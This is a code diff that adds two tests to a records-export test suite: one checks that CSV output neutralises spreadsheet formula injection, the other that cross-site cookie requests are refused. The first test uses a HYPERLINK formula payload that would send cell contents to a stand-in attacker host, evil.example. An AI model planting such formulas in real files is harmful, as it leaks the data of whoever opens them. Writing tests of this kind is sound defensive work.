@@ -104,6 +104,32 @@ describe('a records export', () => {
     expect(first?.[1]).toBe('销售认可线索 (SQL)');
   });
 
+  it('writes text a spreadsheet would run as a formula as text (CSV injection), and numbers as numbers', async () => {
+    const company = '=HYPERLINK("https://evil.example/?"&A1,"Acme")';
+    const made = await h.gql(t.manager, CREATE, {
+      i: { workflowKey: 'standard_trunk', owner: t.salesId, fields: { name: '@risky', email: 'risky@example.com', companyName: company, amount: 500 } },
+    });
+    const id = made.data?.createRecord.id as string;
+    const [header, ...records] = rows((await exported('workflowKey=standard_trunk&search=risky')).body);
+    const row = records.find((r) => r[0] === id) as string[];
+    expect(row[header?.indexOf('Company name') as number]).toBe(`'${company}`);
+    expect(row[header?.indexOf('Contact name') as number]).toBe("'@risky");
+    expect(row[header?.indexOf('Amount') as number]).toBe('500');
+  });
+
+  it('is refused to a session cookie sent from another site, as GraphQL refuses it', async () => {
+    const fromElsewhere = await fetch(`${base}/export/records.csv?workflowKey=standard_trunk`, {
+      headers: { cookie: 'funnel_session=fl_anything', origin: 'https://evil.example' },
+    });
+    expect(fromElsewhere.status).toBe(403);
+    expect(JSON.parse(await fromElsewhere.text()).errors[0].extensions.code).toBe('CROSS_SITE_REFUSED');
+    // From the app's own page (a download link: same-origin, no Origin), the cookie is read — this one signs nobody in.
+    const fromHere = await fetch(`${base}/export/records.csv?workflowKey=standard_trunk`, {
+      headers: { cookie: 'funnel_session=fl_anything', 'sec-fetch-site': 'same-origin' },
+    });
+    expect(fromHere.status).toBe(401);
+  });
+
   it('is refused before any CSV: nobody signed in, an unknown or repeated parameter, no workflow, a key that may not read records', async () => {
     const anonymous = await exported('workflowKey=standard_trunk', null);
     expect(anonymous.status).toBe(401);
